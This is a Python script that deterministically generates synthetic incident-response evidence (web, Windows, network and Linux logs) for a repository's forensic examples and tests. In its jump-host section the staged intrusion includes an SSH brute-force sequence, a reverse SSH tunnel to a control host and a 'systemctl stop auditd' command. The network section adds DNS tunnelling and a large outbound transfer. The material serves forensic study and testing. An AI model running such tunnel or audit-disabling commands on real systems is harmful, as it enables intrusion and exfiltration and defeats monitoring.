"""Write the synthetic evidence anew: ``python -m examples.make_evidence`` in the root of the repository.

The same seed always gives the same bytes; a test compares them with the folders in the repository.
"""

from __future__ import annotations

import sys
import zlib
from collections.abc import Mapping
from pathlib import Path
from random import Random

from examples.synthetic import attack, daily, lines
from examples.synthetic.windows import flat, nested
from examples.synthetic.world import BASTION, CONTROL, CONTROL_NAME, DC, FILES, MAIL, OPERATOR, PORTAL, PRINT, at

SEED = 20260309
HERE = Path(__file__).resolve().parent


def evidence() -> dict[str, bytes]:
    """Return every file of examples/evidence by its path in that folder."""
    texts = {**_portal(), **_mail(), **_windows_servers(), **_network(), **_jump_host()}
    return {path: text.encode() for path, text in texts.items()}


def damaged() -> dict[str, bytes]:
    """Return every file of examples/damaged: what evidence often looks like when it arrives."""
    random = Random(SEED)
    whole = gzipped(_windows_servers()["FILES01/nxlog.jsonl"].encode())
    broken = nested(attack.domain_sysmon(), 7100).splitlines()
    broken[1] = broken[1][:200]
    return {
        "FILES01/nxlog.jsonl.gz": whole[: len(whole) // 2],
        "DC01/sysmon.jsonl": "\n".join(broken).encode() + b"\n\xff\xfe\x00 not a record\n",
        "DC01/memory.bin": random.randbytes(4096),
        "DC01/empty.log": b"",
    }


def gzipped(content: bytes) -> bytes:
    """Return a gzip file (RFC 1952) of stored blocks: compressed bytes would differ between versions of zlib."""
    blocks = [content[start : start + 32768] for start in range(0, len(content), 32768)]
    stored = b"".join(_block(block, last=number == len(blocks)) for number, block in enumerate(blocks, 1))
    ends = zlib.crc32(content).to_bytes(4, "little") + len(content).to_bytes(4, "little")
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + stored + ends


def _block(content: bytes, *, last: bool) -> bytes:
    """Return a stored block of deflate (RFC 1951, 3.2.4)."""
    size = len(content)
    return bytes([last]) + size.to_bytes(2, "little") + (size ^ 0xFFFF).to_bytes(2, "little") + content


def _portal() -> dict[str, str]:
    random = Random(SEED + 1)
    requests = [*daily.requests(random, 70), *attack.portal_requests()]
    events = [*daily.programs(random, PORTAL, 20), *daily.portal_work(random, 16), *attack.portal_events()]
    return {"PORTAL01/u_ex2603.log": lines.iis(requests, PORTAL), "PORTAL01/sysmon.jsonl": nested(events, 41_200)}


def _mail() -> dict[str, str]:
    random = Random(SEED + 2)
    management = [*daily.mail_administration(random, 12), *attack.mail_events()]
    requests = [*daily.mail_clients(random, 30), *attack.mail_requests()]
    messages = [*daily.messages(random, 24), *attack.mail_messages()]
    return {
        "MAIL01/management.jsonl": nested(management, 880),
        "MAIL01/u_ex2603.log": lines.iis(requests, MAIL),
        "MAIL01/MSGTRK2026030900-1.LOG": lines.tracking(messages),
    }


def _windows_servers() -> dict[str, str]:
    random = Random(SEED + 3)
    domain = [*daily.logons(random, DC, 45), *attack.domain_events()]
    printing = [*daily.programs(random, PRINT, 18), *attack.print_events()]
    sharing = [*daily.saved_files(random, FILES, 20), *daily.programs(random, FILES, 8), *attack.files_events()]
    return {
        "DC01/security.jsonl": nested(domain, 90_500),
        "DC01/sysmon.jsonl": nested([*daily.programs(random, DC, 12), *attack.domain_sysmon()], 7100),
        "PRINT01/nxlog.jsonl": flat(printing, 15_300),
        "FILES01/nxlog.jsonl": flat(sharing, 22_010),
    }


def _network() -> dict[str, str]:
    random = Random(SEED + 4)
    rdp = [
        (at(2, "20:10:05", 20 * n), (PORTAL.address, 50_100 + n, host.address, 3389, "tcp", "rdp", "611.5", 88_000, 910_000, "SF"))
        for n, host in enumerate((DC, PRINT, FILES))
    ]
    out = (PORTAL.address, 50_140, CONTROL, 443, "tcp", "ssl", "3602.250000", 41_800_000, 92_000, "SF")
    names = [(when, (PORTAL.address, 53_000, DC.address, 53, "udp", name, "TXT", "NOERROR", "ok")) for when, name in attack.tunnel_names()]
    lookup = (PORTAL.address, 53_001, DC.address, 53, "udp", CONTROL_NAME, "A", "NOERROR", CONTROL)
    seen = (PORTAL.address, 50_140, CONTROL, 443, "TLSv12", "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384", CONTROL_NAME, "T")
    usual = (PORTAL.address, 50_150, "192.0.2.99", 443, "TLSv13", "TLS_AES_256_GCM_SHA384", "updates.example", "T")
    return {
        "sensor/conn.log": lines.zeek("conn", [*daily.connections(random, 36), *rdp, (at(2, "20:16:10"), out)]),
        "sensor/dns.log": lines.zeek("dns", [*daily.lookups(random, 30), *names, (at(2, "20:16:09"), lookup)]),
        "sensor/ssl.log": lines.zeek("ssl", [(at(2, "20:16:11"), seen), *((at(day, "08:00:00"), usual) for day in range(1, 6))]),
    }


def _jump_host() -> dict[str, str]:
    random = Random(SEED + 5)
    guesses = [
        (at(2, "19:40:00", 4 * n), "sshd", 1500 + n, f"Failed password for root from {OPERATOR} port {40_100 + n} ssh2") for n in range(18)
    ]
    entered = (at(2, "19:41:20"), "sshd", 1519, f"Accepted password for root from {OPERATOR} port 40119 ssh2")
    tunnel = ("ssh", "-N", "-R", "8443:192.0.2.20:443", f"relay@{CONTROL_NAME}")
    programs = [*daily.commands(random, 10), (at(2, "19:44:00"), "0", tunnel), (at(2, "19:58:30"), "0", ("systemctl", "stop", "auditd"))]
    return {
        "bastion/auth.log": lines.syslog([*daily.shell_logons(random, 12), *guesses, entered], BASTION),
        "bastion/audit.log": lines.auditd(programs),
    }


def write(files: Mapping[str, bytes], folder: Path) -> None:
    """Write files under a folder, over what is there."""
    for path, content in files.items():
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)


def main() -> None:
    """Write both folders beside this file, or under the folder that is named."""
    folder = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE
    write(evidence(), folder / "evidence")
    write(damaged(), folder / "damaged")


if __name__ == "__main__":
    main()
